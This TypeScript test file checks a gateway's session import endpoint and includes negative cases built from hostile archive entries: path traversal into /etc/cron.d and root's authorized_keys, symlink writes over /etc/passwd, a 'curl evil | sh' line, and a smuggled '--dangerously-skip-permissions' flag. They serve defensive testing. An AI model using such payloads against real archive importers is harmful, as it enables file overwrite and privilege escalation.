import Anthropic from '@anthropic-ai/sdk';
import { createHash } from 'node:crypto';
import fc from 'fast-check';
import type { SessionCommand } from '@berth/contracts';
import type { BerthStore } from '@berth/ports';
import { call, upload, userMessage } from './support/api';
import { startGateway, type GatewayHarness } from './support/gateway-harness';
import { packTar, unpackTar, type TarEntry } from './support/tar';
import { waitFor } from './support/wait-for';

const TRANSCRIPT = '/home/agent/.claude/projects/-workspace/hs-imported.jsonl';
const TRANSCRIPT_DATA = '{"type":"user","sessionId":"hs-imported","message":"MARK-ONE"}\n{"type":"assistant","message":"done"}\n';
const OUTPUT_BYTES = 'report of the first turn\n';
/** Bytes only the workspace of the exported session holds. */
const NOTES = 'notes written before the export\n';

/** /workspace as the sandbox-manager's archive read serves it (Docker's `workspace/…` names), with a set-uid file and a relative symlink. */
const workspaceTar = () =>
  packTar([
    { name: 'workspace/', type: 'directory', mode: 0o755 },
    { name: 'workspace/notes.txt', body: NOTES },
    { name: 'workspace/bin/', type: 'directory', mode: 0o755 },
    { name: 'workspace/bin/run.sh', body: '#!/bin/sh\n', mode: 0o4755 },
    { name: 'workspace/bin/notes', type: 'symlink', linkname: '../notes.txt' },
  ]);

type Err = { status: number; json: { error: { code: string; type: string; message: string } } };

describe('POST /v1/sessions/import: an exported session recreated on another install', () => {
  let source: GatewayHarness;
  let target: GatewayHarness;
  let small: GatewayHarness;
  let archive: Buffer;
  let sourceIds: { session: string; agent: string; env: string; file: string; events: number };
  /** The source session's resources as the source renders them. */
  let sourceResources: Record<string, unknown>[];

  beforeAll(async () => {
    source = await startGateway({
      workspace: (store: BerthStore) => ({
        read: async () => {
          await store.blobs.put('blob_ws_export', (async function* () {
            yield await workspaceTar();
          })());
          return { kind: 'staged', blob_key: 'blob_ws_export', size: (await workspaceTar()).length };
        },
      }),
    });
    target = await startGateway();
    // A short kernel timeout: the crash tests answer 504 after it.
    small = await startGateway({ gateway: { importMaxBytes: 64 * 1024, commandTimeoutMs: 2_000 } });
    const a = new Anthropic({ apiKey: source.keyA, baseURL: source.url, maxRetries: 0 });
    const agent = await a.beta.agents.create({ name: 'exported-agent', model: 'claude-sonnet-4-5', system: 'You keep notes.', tools: [{ type: 'agent_toolset_20260401' }] });
    const env = await a.beta.environments.create({ name: 'exported-env', config: { type: 'cloud', networking: { type: 'limited', allowed_hosts: ['api.example.com'] } } });
    const session = await a.beta.sessions.create({ agent: agent.id, environment_id: env.id, title: 'moving house', metadata: { team: 'x' } });
    const brief = await upload(source.url, source.keyA, 'brief.txt', 'read me first\n');
    await call(source.url, source.keyA, 'POST', `/v1/sessions/${session.id}/resources`, { type: 'file', file_id: brief.json.id });
    const repo = { type: 'github_repository', url: 'https://github.com/acme/app.git', checkout: { type: 'branch', name: 'main' }, authorization_token: 'ghp_stays_on_the_source' };
    expect((await call(source.url, source.keyA, 'POST', `/v1/sessions/${session.id}/resources`, repo)).status).toBe(200);
    sourceResources = (await call(source.url, source.keyA, 'GET', `/v1/sessions/${session.id}`)).json.resources;
    await call(source.url, source.keyA, 'POST', `/v1/sessions/${session.id}/events`, userMessage('MARK-ONE'));
    await waitFor(async () => (await call(source.url, source.keyA, 'GET', `/v1/sessions/${session.id}`)).json.status === 'idle' && (await events(source, source.keyA, session.id)).some((e) => e.type === 'session.status_idle'), 5_000, 'turn idle');
    await source.store.transcripts.append({ session_id: session.id, path: TRANSCRIPT, offset: 0, data: TRANSCRIPT_DATA });
    await source.store.blobs.put('blob_out_1', (async function* () {
      yield Buffer.from(OUTPUT_BYTES);
    })());
    const file = 'file_exported_output_1';
    await source.store.files.put({
      id: file,
      owner_id: 'owner_a',
      filename: 'report.md',
      mime_type: 'text/markdown',
      size_bytes: OUTPUT_BYTES.length,
      created_at: '2026-12-01T10:00:00.000Z',
      expires_at: null,
      downloadable: true,
      scope: { type: 'session', id: session.id },
      blob_key: 'blob_out_1',
      sha256: createHash('sha256').update(OUTPUT_BYTES).digest('hex'),
      output: { path: 'report.md', fingerprint: '1:1' },
      deleted: false,
    });
    const exported = await fetch(`${source.url}/v1/sessions/${session.id}/export`, { headers: { 'x-api-key': source.keyA } });
    expect(exported.status).toBe(200);
    archive = Buffer.from(await exported.arrayBuffer());
    sourceIds = { session: session.id, agent: agent.id, env: env.id, file, events: (await source.store.journal.readEvents(session.id)).length };
  });
  afterAll(async () => {
    await source?.close();
    await target?.close();
    await small?.close();
  });

  const events = async (gw: GatewayHarness, key: string, id: string): Promise<({ type: string } & Record<string, unknown>)[]> => (await call(gw.url, key, 'GET', `/v1/sessions/${id}/events?limit=1000`)).json.data;
  const importInto = async (gw: GatewayHarness, key: string, body: Buffer | string, query = '', idempotencyKey?: string) => {
    const headers = { 'x-api-key': key, 'content-type': 'application/x-tar', ...(idempotencyKey === undefined ? {} : { 'idempotency-key': idempotencyKey }) };
    const res = await fetch(`${gw.url}/v1/sessions/import${query}`, { method: 'POST', headers, body });
    const text = await res.text();
    let json: any = null;
    try {
      json = JSON.parse(text);
    } catch {
      json = null;
    }
    return { status: res.status, json };
  };
  /** How many sessions, agents and environments `key`'s owner has. */
  const counts = async (gw: GatewayHarness, key: string) => {
    const count = async (what: string) => (await call(gw.url, key, 'GET', `/v1/${what}?limit=100`)).json.data.length as number;
    return { sessions: await count('sessions'), agents: await count('agents'), environments: await count('environments') };
  };
  const plus = (before: Awaited<ReturnType<typeof counts>>, n: number) => ({ sessions: before.sessions + n, agents: before.agents + n, environments: before.environments + n });
  /** What an import's answer says about the session, apart from what changes with time. */
  const sameSession = (s: Record<string, any>) => ({ id: s.id, agent: s.agent, environment_id: s.environment_id, title: s.title, metadata: s.metadata, created_at: s.created_at, imported_from: s.berth.imported_from });
  /** The exported archive with its entries changed by `edit` (the manifest as JSON). */
  const edited = async (edit: (entries: TarEntry[], manifest: Record<string, any>) => TarEntry[]): Promise<Buffer> => {
    const entries = await unpackTar(archive);
    const manifest = JSON.parse(entries[0].body.toString('utf8'));
    const rest = edit(entries.slice(1), manifest);
    return packTar([{ name: 'manifest.json', body: JSON.stringify(manifest) }, ...rest]);
  };
  const withHarnessSession = () =>
    edited((entries, manifest) => {
      manifest.source.harness_session_id = 'hs-imported';
      return entries;
    });

  it('makes a new session, agent and environment of the importer with the archived conversation, files and workspace, and records the mapping', async () => {
    const answer = await importInto(target, target.keyB, await withHarnessSession());
    expect(answer.status).toBe(200);
    const imported = answer.json;
    expect(imported).toMatchObject({ type: 'session', title: 'moving house', metadata: { team: 'x' }, status: 'idle' });
    for (const id of [imported.id, imported.agent.id, imported.environment_id]) expect(Object.values(sourceIds)).not.toContain(id);
    // Resources are not recreated (the file is not in the archive, the token never leaves its install): the answer names each.
    const notCarried = sourceResources.map(({ created_at: _c, updated_at: _u, ...resource }) => resource);
    expect(notCarried.map((r) => r['type'])).toEqual(['file', 'github_repository']);
    expect(imported.resources).toEqual([]);
    expect(imported.berth).toMatchObject({
      imported_from: { session_id: sourceIds.session, agent: { id: sourceIds.agent, version: 1 }, environment_id: sourceIds.env, resources_not_carried: notCarried },
      harness: { kind: 'claude-code', session_id: 'hs-imported' },
      permission_mode: 'always_allow',
    });

    // The agent version and environment are recreated as the importer's, with the archived settings.
    const agent = await call(target.url, target.keyB, 'GET', `/v1/agents/${imported.agent.id}`);
    const sourceAgent = await call(source.url, source.keyA, 'GET', `/v1/agents/${sourceIds.agent}`);
    const settings = (a: Record<string, unknown>) => ({ name: a.name, model: a.model, system: a.system, tools: a.tools, mcp_servers: a.mcp_servers, description: a.description, metadata: a.metadata });
    expect(settings(agent.json)).toEqual(settings(sourceAgent.json));
    expect(agent.json.version).toBe(1);
    const env = await call(target.url, target.keyB, 'GET', `/v1/environments/${imported.environment_id}`);
    const sourceEnv = await call(source.url, source.keyA, 'GET', `/v1/environments/${sourceIds.env}`);
    expect({ name: env.json.name, config: env.json.config }).toEqual({ name: sourceEnv.json.name, config: sourceEnv.json.config });

    // The journal starts at the import; the source's events stay in the archive, named by the mapping.
    const journal = await events(target, target.keyB, imported.id);
    expect(journal.some((e) => e.type === 'user.message')).toBe(false);
    const files = (await call(target.url, target.keyB, 'GET', `/v1/files?scope_id=${imported.id}`)).json.data;
    expect(files).toHaveLength(1);
    expect(files[0]).toMatchObject({ filename: 'report.md', mime_type: 'text/markdown', size_bytes: OUTPUT_BYTES.length });
    expect(files[0].id).not.toBe(sourceIds.file);
    expect(journal.find((e) => e.type === 'berth.session_imported')).toMatchObject({
      from_session_id: sourceIds.session,
      from_agent: { id: sourceIds.agent, version: 1 },
      from_environment_id: sourceIds.env,
      journal_events: sourceIds.events,
      files: [{ from: sourceIds.file, to: files[0].id }],
      workspace: true,
      resources_not_carried: notCarried,
    });
    expect((await call(target.url, target.keyB, 'GET', `/v1/sessions/${imported.id}`)).json.berth.imported_from.resources_not_carried).toEqual(notCarried);
    const content = await fetch(`${target.url}/v1/files/${files[0].id}/content`, { headers: { 'x-api-key': target.keyB } });
    expect(await content.text()).toBe(OUTPUT_BYTES);

    // The transcript mirror holds the archived transcript: the first turn restores it and resumes the harness conversation.
    expect(await target.store.transcripts.files(imported.id)).toEqual([{ path: TRANSCRIPT, data: TRANSCRIPT_DATA }]);

    // The workspace waits for the first sandbox, re-packed as the sandbox user's, without the set-uid bit, the symlink's target absolute.
    const recorded = (await target.store.journal.readEvents(imported.id)).find((e) => e.type === 'SessionImported');
    const blob = recorded?.type === 'SessionImported' ? recorded.data.from.workspace_blob : null;
    const staged = blob === null ? null : await target.store.blobs.get(blob);
    if (staged === null) throw new Error('no staged workspace');
    const restored = await unpackTar(staged);
    expect(restored.map((e) => [e.name, e.type, e.mode, e.uid, e.gid, e.linkname ?? null, e.body.toString('utf8')])).toEqual([
      ['notes.txt', 'file', 0o644, 1000, 1000, null, NOTES],
      ['bin', 'directory', 0o755, 1000, 1000, null, ''],
      ['bin/run.sh', 'file', 0o755, 1000, 1000, null, '#!/bin/sh\n'],
      ['bin/notes', 'symlink', 0o644, 1000, 1000, '/workspace/notes.txt', ''],
    ]);

    // Visible to its owner only; the exporter's owner on this install sees nothing of it.
    expect((await call(target.url, target.keyA, 'GET', `/v1/sessions/${imported.id}`)).status).toBe(404);
    expect((await call(target.url, target.keyA, 'GET', `/v1/sessions/${imported.id}/export`)).status).toBe(404);
    expect((await call(target.url, target.keyA, 'GET', `/v1/files/${files[0].id}`)).status).toBe(404);
    expect((await call(target.url, target.keyA, 'GET', `/v1/agents/${imported.agent.id}`)).status).toBe(404);
    expect((await call(target.url, target.keyA, 'GET', '/v1/sessions')).json.data).toEqual([]);

    // It continues like any session: a message starts its first turn here.
    await call(target.url, target.keyB, 'POST', `/v1/sessions/${imported.id}/events`, userMessage('MARK-TWO'));
    await waitFor(async () => (await events(target, target.keyB, imported.id)).some((e) => e.type === 'session.status_idle'), 5_000, 'imported turn idle');

    // Importing the same archive again makes another session (ids are always new).
    const again = await importInto(target, target.keyB, archive);
    expect(again.status).toBe(200);
    expect(again.json.id).not.toBe(imported.id);
  });

  it('runs on the importer’s own agent and environment when named; refuses another harness and another owner’s ids', async () => {
    const b = new Anthropic({ apiKey: target.keyB, baseURL: target.url, maxRetries: 0 });
    const agent = await b.beta.agents.create({ name: 'mine', model: 'claude-sonnet-4-5', system: 'Mine.' });
    const env = await b.beta.environments.create({ name: 'mine' });
    const matched = await importInto(target, target.keyB, archive, `?agent_id=${agent.id}&environment_id=${env.id}`);
    expect(matched.status).toBe(200);
    expect(matched.json).toMatchObject({ agent: { id: agent.id, version: 1 }, environment_id: env.id });

    const codex = await b.beta.environments.create({ name: 'codex', config: { type: 'cloud', harness: 'codex' } as never });
    const mismatch = (await importInto(target, target.keyB, archive, `?environment_id=${codex.id}`)) as Err;
    expect(mismatch.status).toBe(400);
    expect(mismatch.json.error.code).toBe('IMPORT_HARNESS_MISMATCH');

    const theirs = (await importInto(target, target.keyA, archive, `?agent_id=${agent.id}`)) as Err;
    expect(theirs.status).toBe(404);
    const theirEnv = (await importInto(target, target.keyA, archive, `?environment_id=${env.id}`)) as Err;
    expect(theirEnv.status).toBe(404);
  });

  it('answers every refusal of the archive reader (and of what it would recreate) with its 4xx and creates nothing', async () => {
    const before = (await call(target.url, target.keyB, 'GET', '/v1/sessions?limit=100')).json.data.length;
    const agentsBefore = (await call(target.url, target.keyB, 'GET', '/v1/agents?limit=100')).json.data.length;
    const environmentsBefore = (await call(target.url, target.keyB, 'GET', '/v1/environments?limit=100')).json.data.length;
    const bad: [string, Buffer | string, number, string][] = [
      ['not a tar', 'this is not an archive at all, just text that is long enough to look like something'.repeat(20), 400, 'ARCHIVE_NOT_A_TAR'],
      ['JSON', '{"events": []}', 400, 'ARCHIVE_NOT_A_TAR'],
      ['an empty tar', await packTar([]), 400, 'ARCHIVE_MANIFEST_MISSING'],
      ['the journal first', await packTar([{ name: 'journal.jsonl', body: '' }]), 400, 'ARCHIVE_MANIFEST_MISSING'],
      ['a path traversal', await edited((entries) => [...entries, { name: '../../etc/cron.d/x', body: 'x' }]), 400, 'ARCHIVE_PATH_UNSAFE'],
      ['an absolute path', await edited((entries) => [{ name: '/etc/passwd', body: 'x' }, ...entries]), 400, 'ARCHIVE_PATH_UNSAFE'],
      ['a symlink entry', await edited((entries) => [{ name: 'transcripts/home/agent/x', type: 'symlink', linkname: '/etc/shadow' }, ...entries]), 400, 'ARCHIVE_ENTRY_TYPE_REFUSED'],
      ['an entry outside the layout', await edited((entries) => [...entries, { name: 'extra.txt', body: 'x' }]), 400, 'ARCHIVE_ENTRY_UNKNOWN'],
      ['an unlisted transcript', await edited((entries) => [...entries, { name: 'transcripts/home/agent/.claude/other.jsonl', body: 'x\n' }]), 400, 'ARCHIVE_ENTRY_UNKNOWN'],
      [
        'a transcript outside the sandbox home',
        await edited((entries, m) => {
          m.transcripts = ['/etc/profile.d/berth.sh'];
          return [...entries.filter((e) => !e.name.startsWith('transcripts/')), { name: 'transcripts/etc/profile.d/berth.sh', body: 'curl evil | sh\n' }];
        }),
        400,
        'ARCHIVE_PATH_UNSAFE',
      ],
      [
        'an unsafe harness conversation id',
        await edited((entries, m) => {
          m.source.harness_session_id = '--dangerously-skip-permissions';
          return entries;
        }),
        400,
        'ARCHIVE_MANIFEST_INVALID',
      ],
      [
        'an unknown manifest field',
        await edited((entries, m) => {
          m.owner_id = 'owner_a';
          return entries;
        }),
        400,
        'ARCHIVE_MANIFEST_INVALID',
      ],
      [
        'session metadata past the API’s limits',
        await edited((entries, m) => {
          m.session.metadata = Object.fromEntries([...Array(17).keys()].map((i) => [`k${i}`, 'v']));
          return entries;
        }),
        400,
        'ARCHIVE_MANIFEST_INVALID',
      ],
      [
        'a resource whose repository URL carries credentials',
        await edited((entries, m) => {
          m.session.resources.find((r: { type: string }) => r.type === 'github_repository').url = 'https://user:secret@github.com/acme/app.git';
          return entries;
        }),
        400,
        'ARCHIVE_MANIFEST_INVALID',
      ],
      [
        'a journal of another session',
        await edited((entries) => entries.map((e) => (e.name === 'journal.jsonl' ? { ...e, body: e.body?.toString().replaceAll(sourceIds.session, 'sesn_someone_else') } : e))),
        400,
        'ARCHIVE_EVENT_INVALID',
      ],
      [
        'an environment on the host network (the operator allows none)',
        await edited((entries, m) => {
          m.environment.config.network = 'host';
          return entries;
        }),
        400,
        'HOST_NETWORK_NOT_ALLOWED',
      ],
      [
        'an agent with what Berth cannot honour (skills)',
        await edited((entries, m) => {
          m.agent.skills = [{ type: 'anthropic', skill_id: 'xlsx', version: 'latest' }];
          return entries;
        }),
        400,
        'VALIDATION_ERROR',
      ],
      ['a listed output missing', await edited((entries) => entries.filter((e) => !e.name.startsWith('outputs/'))), 400, 'ARCHIVE_MANIFEST_INVALID'],
      ['a workspace writing through its own symlink', await withWorkspace([{ name: 'workspace/etc', type: 'symlink', linkname: '/etc' }, { name: 'workspace/etc/passwd', body: 'root::0:0::/:/bin/sh\n' }]), 400, 'ARCHIVE_WORKSPACE_INVALID'],
      ['a workspace leaving its tree', await withWorkspace([{ name: 'workspace/../../root/.ssh/authorized_keys', body: 'ssh-ed25519 AAAA' }]), 400, 'ARCHIVE_WORKSPACE_INVALID'],
      ['a workspace with a device', await withWorkspace([{ name: 'workspace/null', type: 'character-device' }]), 400, 'ARCHIVE_WORKSPACE_INVALID'],
      ['a workspace that is no tar', await edited((entries) => entries.map((e) => (e.name === 'workspace.tar' ? { ...e, body: 'x'.repeat(1024) } : e))), 400, 'ARCHIVE_WORKSPACE_INVALID'],
    ];
    const answers: string[] = [];
    for (const [what, body] of bad) {
      const answer = (await importInto(target, target.keyB, body)) as Err;
      answers.push(`${what}: ${answer.status} ${answer.json?.error?.code}`);
      expect(answer.json?.error?.message).toEqual(expect.any(String));
    }
    expect(answers).toEqual(bad.map(([what, , status, code]) => `${what}: ${status} ${code}`));
    expect((await call(target.url, target.keyB, 'GET', '/v1/sessions?limit=100')).json.data).toHaveLength(before);
    expect((await call(target.url, target.keyB, 'GET', '/v1/agents?limit=100')).json.data).toHaveLength(agentsBefore);
    expect((await call(target.url, target.keyB, 'GET', '/v1/environments?limit=100')).json.data).toHaveLength(environmentsBefore);

    // Over the server's limit (here 64 KiB): 413, and nothing made.
    expect(archive.length).toBeLessThan(64 * 1024);
    expect((await importInto(small, small.keyB, archive)).status).toBe(200);
    const oversize = await edited((entries) => entries.map((e) => (e.name.startsWith('transcripts/') ? { ...e, body: `${'{"pad":"x"}\n'.repeat(10_000)}` } : e)));
    const refused = (await importInto(small, small.keyB, oversize)) as Err;
    expect(refused.status).toBe(413);
    expect(refused.json.error).toMatchObject({ type: 'request_too_large', code: 'ARCHIVE_TOO_LARGE' });
    // The same sent without a Content-Length (chunked): refused once the bytes read pass the limit.
    const chunks = [...Array(Math.ceil(oversize.length / 8192)).keys()].map((i) => oversize.subarray(i * 8192, (i + 1) * 8192));
    const streamed = await fetch(`${small.url}/v1/sessions/import`, {
      method: 'POST',
      headers: { 'x-api-key': small.keyB, 'content-type': 'application/x-tar' },
      body: new ReadableStream<Uint8Array>({ pull: (c) => (chunks.length > 0 ? c.enqueue(chunks.shift() as Buffer) : c.close()) }),
      duplex: 'half',
    } as RequestInit);
    expect(streamed.status).toBe(413);
    expect(((await streamed.json()) as Err['json']).error.code).toBe('ARCHIVE_TOO_LARGE');
    expect((await call(small.url, small.keyB, 'GET', '/v1/sessions?limit=100')).json.data).toHaveLength(1);
  });

  it('never answers a mangled archive (cut short, bytes flipped) with a 5xx', async () => {
    const mangled = fc.oneof(
      fc.nat(archive.length - 1).map((end) => archive.subarray(0, end)),
      fc.array(fc.tuple(fc.nat(archive.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => {
        const copy = Buffer.from(archive);
        for (const [at, byte] of flips) copy[at] = byte;
        return copy;
      }),
    );
    await fc.assert(
      fc.asyncProperty(mangled, async (body) => {
        const answer = await importInto(target, target.keyB, body);
        return answer.status === 200 || (answer.status >= 400 && answer.status < 500 && /^[A-Z][A-Z0-9_]+$/.test(String(answer.json?.error?.code)));
      }),
      { numRuns: 150 },
    );
  }, 60_000);

  /** The output file of the imported session reads back, and the workspace blob its first sandbox restores is still there (no attempt dropped the one kept). */
  const expectIntact = async (gw: GatewayHarness, key: string, sessionId: string) => {
    const files = (await call(gw.url, key, 'GET', `/v1/files?scope_id=${sessionId}`)).json.data as { id: string }[];
    expect(files).toHaveLength(1);
    const content = await fetch(`${gw.url}/v1/files/${files[0].id}/content`, { headers: { 'x-api-key': key } });
    expect(await content.text()).toBe(OUTPUT_BYTES);
    const recorded = (await gw.store.journal.readEvents(sessionId)).find((e) => e.type === 'SessionImported');
    const blob = recorded?.type === 'SessionImported' ? recorded.data.from.workspace_blob : null;
    expect(blob).not.toBeNull();
    expect(await gw.store.blobs.get(blob as string)).not.toBeNull();
  };

  it('Idempotency-Key: the same key and archive answer the same session and make nothing twice; another archive or target under it is 409; keys are per owner', async () => {
    const mine = await call(target.url, target.keyB, 'POST', '/v1/agents', { name: 'mine-too', model: 'claude-sonnet-4-5' });
    const before = await counts(target, target.keyB);
    const creates = () => target.bus.sent.filter((c) => c.type === 'CreateSession').length;
    const first = await importInto(target, target.keyB, archive, '', 'imp-1');
    expect(first.status).toBe(200);
    const sent = creates();
    const again = await importInto(target, target.keyB, archive, '', 'imp-1');
    expect(again.status).toBe(200);
    expect(sameSession(again.json)).toEqual(sameSession(first.json));
    expect(creates()).toBe(sent);
    expect(await counts(target, target.keyB)).toEqual(plus(before, 1));
    await expectIntact(target, target.keyB, first.json.id);

    // Bound to the archive and the targets: another archive, or this one onto the caller's own agent, under the key is a conflict that makes nothing.
    for (const [body, query] of [[await withHarnessSession(), ''], [archive, `?agent_id=${mine.json.id}`]] as const) {
      const conflict = (await importInto(target, target.keyB, body, query, 'imp-1')) as Err;
      expect(conflict.status).toBe(409);
      expect(conflict.json.error).toMatchObject({ type: 'conflict_error', code: 'IDEMPOTENCY_KEY_CONFLICT' });
      expect(conflict.json.error.message).toMatch(/already used to import another archive/);
    }
    expect(await counts(target, target.keyB)).toEqual(plus(before, 1));
    expect(creates()).toBe(sent);

    // Another owner's key is its own, and so is a create's under the same key.
    const theirs = await importInto(target, target.keyA, archive, '', 'imp-1');
    expect(theirs.status).toBe(200);
    expect(theirs.json.id).not.toBe(first.json.id);
    const created = await call(target.url, target.keyB, 'POST', '/v1/sessions', { agent: mine.json.id, environment_id: first.json.environment_id }, { 'idempotency-key': 'imp-1' });
    expect(created.status).toBe(200);
    expect(created.json.id).not.toBe(first.json.id);
  });

  it('concurrent imports under one key make one session, agent, environment and file', async () => {
    const before = await counts(target, target.keyA);
    const answers = await Promise.all([1, 2, 3].map(() => importInto(target, target.keyA, archive, '', 'race')));
    expect(answers.map((a) => a.status)).toEqual([200, 200, 200]);
    expect(new Set(answers.map((a) => a.json.id)).size).toBe(1);
    expect(await counts(target, target.keyA)).toEqual(plus(before, 1));
    await expectIntact(target, target.keyA, answers[0].json.id);
  });

  it('a retry under the key after an attempt died half-way makes only what is missing: one session, agent, environment and file, and the workspace', async () => {
    const isImport = (c: SessionCommand) => c.type === 'CreateSession' && c.data.import !== undefined;
    const before = await counts(small, small.keyA);
    const failOnce = async (fault: 'stallWhen' | 'loseReplyWhen', key: string) => {
      small.bus[fault] = isImport;
      try {
        return await importInto(small, small.keyA, archive, '', key);
      } finally {
        small.bus[fault] = () => false;
      }
    };
    const filesOf = async (id: string) => (await call(small.url, small.keyA, 'GET', `/v1/files?scope_id=${id}`)).json.data as { id: string }[];

    // The kernel never got the CreateSession: the agent and environment were made, the session was not.
    expect((await failOnce('stallWhen', 'died-before-create')).status).toBe(504);
    expect(await counts(small, small.keyA)).toEqual({ ...plus(before, 1), sessions: before.sessions });
    const resumed = await importInto(small, small.keyA, archive, '', 'died-before-create');
    expect(resumed.status).toBe(200);
    expect(await counts(small, small.keyA)).toEqual(plus(before, 1));
    await expectIntact(small, small.keyA, resumed.json.id);

    // The kernel created the session but its answer was lost: the output files were never recorded, and the workspace waits for the first sandbox.
    expect((await failOnce('loseReplyWhen', 'died-after-create')).status).toBe(504);
    const made = small.bus.sent.filter(isImport).at(-1)?.meta.session_id as string;
    expect(await filesOf(made)).toEqual([]);
    const finished = await importInto(small, small.keyA, archive, '', 'died-after-create');
    expect(finished.status).toBe(200);
    expect(finished.json.id).toBe(made);
    expect(await counts(small, small.keyA)).toEqual(plus(before, 2));
    await expectIntact(small, small.keyA, made);
  }, 30_000); // two attempts wait out the kernel timeout

  /** The exported archive with its workspace.tar replaced by these entries. */
  async function withWorkspace(entries: readonly TarEntry[]): Promise<Buffer> {
    const inner = await packTar(entries);
    return edited((outer) => outer.map((e) => (e.name === 'workspace.tar' ? { ...e, body: inner } : e)));
  }
});
